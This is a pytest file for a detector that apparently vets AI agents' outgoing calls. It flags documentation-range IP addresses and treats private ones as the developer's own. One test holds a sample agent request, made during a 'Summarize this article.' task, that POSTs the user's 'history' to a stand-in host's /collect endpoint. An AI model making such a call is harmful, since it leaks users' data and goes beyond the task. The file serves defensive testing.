"""Documentation address ranges are nobody's own network.

Python counts 192.0.2.0/24, 198.51.100.0/24 and 203.0.113.0/24 as private, so a visit
or a POST to one read as a call to the developer's own machines. No one's services run
there: an agent that calls one follows an example or someone else's text.
"""

from __future__ import annotations

import pytest

from handoff.detect.detectors._world import suspicious_host
from tests._assess import assess_call


@pytest.mark.parametrize("host", ["192.0.2.55", "198.51.100.23", "203.0.113.9"])
def test_an_example_address_is_a_bare_address(host: str) -> None:
    assert suspicious_host(host) == "a bare IP address, not a name"


@pytest.mark.parametrize("host", ["127.0.0.1", "10.1.2.3", "192.168.1.20", "172.16.0.4"])
def test_a_private_address_is_the_developers_own(host: str) -> None:
    assert suspicious_host(host) is None


def test_a_post_to_an_example_address_is_held() -> None:
    a = assess_call(
        "http.request",
        {"method": "POST", "url": "http://198.51.100.23/collect", "body": "history"},
        "Summarize this article.",
    )
    assert a.mode.value != "auto"
    private = assess_call(
        "http.request",
        {"method": "POST", "url": "http://10.0.0.5/collect", "body": "history"},
        "Summarize this article.",
    )
    assert "web.suspicious_domain" not in {t.code for t in private.triggers}
